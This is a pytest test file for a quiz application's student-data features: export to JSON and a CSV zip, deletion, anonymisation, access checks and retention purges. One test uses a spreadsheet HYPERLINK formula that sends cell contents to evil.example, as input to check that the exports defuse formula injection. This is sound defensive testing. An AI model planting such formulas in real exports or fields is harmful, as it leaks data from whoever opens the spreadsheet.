"""One student's data: export it, delete it, anonymise it; purge attempts past retention."""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta

import pytest
from admin_helpers import field_error
from sqlalchemy import func, select, update
from test_regrade import stats_equal_recomputation

from quizapp.models import (
    Attempt,
    AttemptItem,
    Membership,
    QuestionReport,
    Quiz,
    ReviewItem,
    SchoolClass,
    User,
    db,
    utcnow,
)
from quizapp.services.reports import item_analysis

from attempt_helpers import answer, items, right_form, start, wrong_form
from conftest import PASSWORD, PASSWORD_HASH, logged_in, login, make_app, quiz_id, seed_tiny


def take(app, client, right: bool) -> int:
    attempt_id = start(client, quiz_id(app))
    for item in items(app, attempt_id):
        form = right_form(item.snapshot) if right else wrong_form(item.snapshot)
        assert answer(client, attempt_id, item, form).status_code == 303
    assert client.post(f"/attempts/{attempt_id}/submit").status_code == 303
    return attempt_id


def user_id(app, username: str) -> int | None:
    with app.app_context():
        return db.session.scalar(select(User.id).where(User.username == username))


def make_class(app, teacher: str, members: tuple[str, ...]) -> int:
    with app.app_context():
        teacher_id = db.session.scalar(select(User.id).where(User.username == teacher))
        school_class = SchoolClass(name="7B", teacher_id=teacher_id, join_code=f"C{teacher}")
        db.session.add(school_class)
        db.session.flush()
        for name in members:
            uid = db.session.scalar(select(User.id).where(User.username == name))
            db.session.add(Membership(class_id=school_class.id, user_id=uid))
        db.session.commit()
        return school_class.id


@pytest.fixture
def world(app, student, other_student):
    """alice: two submitted attempts, one in progress and a report; bob: one attempt."""
    first, second = take(app, student, right=True), take(app, student, right=False)
    with app.app_context():
        item = db.session.scalar(select(AttemptItem).where(AttemptItem.attempt_id == first))
        db.session.add(
            QuestionReport(
                question_id=item.question_id,
                user_id=item.attempt.user_id,
                attempt_item_id=item.id,
                message="REPORT-CANARY",
            )
        )
        db.session.commit()
    in_progress = start(student, quiz_id(app))
    bobs = take(app, other_student, right=True)
    class_id = make_class(app, "tess", ("alice", "bob"))
    return {"attempts": (first, second, in_progress), "bob": bobs, "class_id": class_id}


def base_url(app, world, username: str = "alice") -> str:
    return f"/admin/classes/{world['class_id']}/students/{user_id(app, username)}"


def figures(app) -> tuple:
    with app.app_context():
        report = item_analysis(quiz_id(app))
        return (
            report.attempts,
            report.average,
            [(i.question_id, i.n, i.facility) for i in report.items],
        )


def test_export_holds_every_attempt_answer_report_and_class(app, teacher, world):
    url = base_url(app, world)
    page = teacher.get(url).text
    assert f"{url}/data.json" in page and f"{url}/data.zip" in page
    response = teacher.get(f"{url}/data.json")
    assert response.headers["Content-Disposition"].startswith("attachment")
    data = json.loads(response.text)
    assert data["account"]["username"] == "alice"
    assert [a["id"] for a in data["attempts"]] == list(world["attempts"])
    assert all(len(a["answers"]) == 7 for a in data["attempts"])
    assert [r["message"] for r in data["reports"]] == ["REPORT-CANARY"]
    assert [m["name"] for m in data["memberships"]] == ["7B"] and data["practice"]
    archive = zipfile.ZipFile(io.BytesIO(teacher.get(f"{url}/data.zip").data))
    assert set(archive.namelist()) == {
        f"{n}.csv" for n in ("account", "memberships", "attempts", "answers", "reports", "practice")
    }
    attempts_csv = archive.read("attempts.csv").decode().splitlines()
    assert (
        len(attempts_csv) == 1 + 3 and len(archive.read("answers.csv").decode().splitlines()) == 22
    )


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
UTC_SECOND = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


def test_data_zip_defuses_formulas_and_gives_times_in_utc_with_a_z(app, teacher, student, world):
    """The class exports' guard and time format, in every CSV file of the zip (and the JSON)."""
    in_progress = world["attempts"][2]
    item = next(i for i in items(app, in_progress) if i.snapshot["kind"] == "short_text")
    assert answer(student, in_progress, item, {"answer": FORMULA}).status_code == 303
    with app.app_context():
        db.session.add(
            QuestionReport(
                question_id=item.question_id, user_id=user_id(app, "alice"), message="@SUM(A1)"
            )
        )
        db.session.commit()
    url = base_url(app, world)
    archive = zipfile.ZipFile(io.BytesIO(teacher.get(f"{url}/data.zip").data))
    tables = {
        name: list(csv.DictReader(io.StringIO(archive.read(name).decode())))
        for name in archive.namelist()
    }
    assert "'" + FORMULA in [row["answer"] for row in tables["answers.csv"]]
    assert "'@SUM(A1)" in [row["message"] for row in tables["reports.csv"]]
    times = [
        value
        for rows in tables.values()
        for row in rows
        for column, value in row.items()
        if column.endswith("_at") and value
    ]
    assert len(times) > 20 and all(UTC_SECOND.fullmatch(value) for value in times), times
    data = json.loads(teacher.get(f"{url}/data.json").text)
    assert UTC_SECOND.fullmatch(data["account"]["created_at"])
    assert all(UTC_SECOND.fullmatch(a["started_at"]) for a in data["attempts"])


def test_only_the_class_teacher_and_admins_reach_a_students_data(app, teacher, world):
    url = base_url(app, world)
    with app.app_context():
        db.session.add(User(username="tom", role="teacher", password_hash=PASSWORD_HASH))
        db.session.commit()
    tom = logged_in(app, "tom")
    for method, suffix in (("GET", "/data.json"), ("GET", "/data.zip"), ("POST", "/delete")):
        assert (
            tom.open(url + suffix, method=method, data={"confirm_delete": "alice"}).status_code
            == 404
        )
    assert logged_in(app, "ada").get(f"{url}/data.json").status_code == 200
    assert logged_in(app, "bob").get(f"{url}/data.json").status_code == 403
    outsider = f"/admin/classes/{world['class_id']}/students/{user_id(app, 'tess')}/data.json"
    assert teacher.get(outsider).status_code == 404  # not a member of the class
    assert user_id(app, "alice") is not None


def test_anonymising_keeps_the_item_analysis_and_removes_the_identity(app, teacher, world):
    before = figures(app)
    url = base_url(app, world)
    alice_id = user_id(app, "alice")
    response = teacher.post(f"{url}/anonymise", data={"confirm_anonymise": "alice"})
    assert response.headers["Location"] == f"/admin/classes/{world['class_id']}"
    assert figures(app) == before and stats_equal_recomputation(app)
    with app.app_context():
        user = db.session.get(User, alice_id)
        assert user.username.startswith("removed-") and user.is_disabled
        assert db.session.scalar(select(func.count()).where(Attempt.user_id == alice_id)) == 3
        assert db.session.scalar(select(func.count()).where(Membership.user_id == alice_id)) == 0
    assert login(app.test_client(), "alice", PASSWORD).status_code != 302


@pytest.mark.parametrize(
    ("typed", "message"),
    [("", "Type the student's username"), ("bob", "not this student's username"), ("x" * 41, "")],
)
def test_a_wrong_confirmation_changes_nothing(app, teacher, world, typed, message):
    url = base_url(app, world)
    for action, field in (("delete", "confirm_delete"), ("anonymise", "confirm_anonymise")):
        response = teacher.post(f"{url}/{action}", data={field: typed})
        assert response.status_code == 422
        assert message in field_error(response.text, field)
    assert user_id(app, "alice") is not None and figures(app)[0] == 3


def test_deleting_removes_the_student_and_their_data_and_adjusts_the_figures(app, teacher, world):
    url = base_url(app, world)
    alice_id = user_id(app, "alice")
    response = teacher.post(f"{url}/delete", data={"confirm_delete": "alice"})
    assert response.headers["Location"] == f"/admin/classes/{world['class_id']}"
    assert user_id(app, "alice") is None
    with app.app_context():
        assert db.session.scalar(select(func.count()).where(ReviewItem.user_id == alice_id)) == 0
        for model in (Attempt, QuestionReport, Membership):
            assert db.session.scalar(select(func.count()).where(model.user_id == alice_id)) == 0
        assert db.session.scalar(select(func.count()).select_from(AttemptItem)) == 7  # bob's
    assert figures(app)[0] == 1 and stats_equal_recomputation(app)
    assert teacher.post(f"{url}/delete", data={"confirm_delete": "alice"}).status_code == 404


def test_teacher_accounts_in_a_class_are_not_deleted_here(app, teacher, world):
    with app.app_context():
        tess_id = db.session.scalar(select(User.id).where(User.username == "tess"))
        db.session.add(Membership(class_id=world["class_id"], user_id=tess_id))
        db.session.commit()
    url = f"/admin/classes/{world['class_id']}/students/{tess_id}/delete"
    response = teacher.post(url, data={"confirm_delete": "tess"})
    assert response.status_code == 409 and "Only student accounts" in response.text
    assert user_id(app, "tess") == tess_id


def test_cli_exports_deletes_and_anonymises(app, world, tmp_path):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["students", "export", "alice"])
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.stdout)["attempts"]) == 3
    assert runner.invoke(args=["students", "export", "nobody"]).exit_code != 0
    target = tmp_path / "alice.zip"
    result = runner.invoke(
        args=["students", "export", "alice", "--format", "zip", "--output", target]
    )
    assert result.exit_code == 0 and "answers.csv" in zipfile.ZipFile(target).namelist()
    assert runner.invoke(args=["students", "anonymise", "bob", "--yes"]).exit_code == 0
    assert user_id(app, "bob") is None
    assert runner.invoke(args=["students", "delete", "alice", "--yes"]).exit_code == 0
    assert user_id(app, "alice") is None and stats_equal_recomputation(app)


def test_purge_dry_run_changes_nothing_and_the_real_run_removes_only_older_attempts(tmp_path):
    app = make_app(tmp_path, ATTEMPT_RETENTION_DAYS=365)
    seed_tiny(app)
    student, other = logged_in(app, "alice"), logged_in(app, "bob")
    old, recent, open_one = take(app, student, True), take(app, other, False), None
    open_one = start(student, quiz_id(app))
    with app.app_context():
        long_ago = utcnow() - timedelta(days=400)
        db.session.execute(
            update(Attempt)
            .where(Attempt.id.in_([old, open_one]))
            .values(submitted_at=long_ago, started_at=long_ago)
        )
        db.session.commit()
    runner = app.test_cli_runner()
    before = figures(app)
    result = runner.invoke(args=["attempts", "purge", "--dry-run"])
    assert "Would remove 1 submitted attempts older than 365 days" in result.output
    assert figures(app) == before
    result = runner.invoke(args=["attempts", "purge"])
    assert "Removed 1 submitted attempts" in result.output
    with app.app_context():
        left = set(db.session.scalars(select(Attempt.id)))
    assert left == {recent, open_one} and stats_equal_recomputation(app)
    assert figures(app)[0] == 1


def test_purge_refuses_without_a_retention_period(app):
    result = app.test_cli_runner().invoke(args=["attempts", "purge", "--dry-run"])
    assert result.exit_code != 0 and "Retention is off" in result.output
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Quiz)) == 1
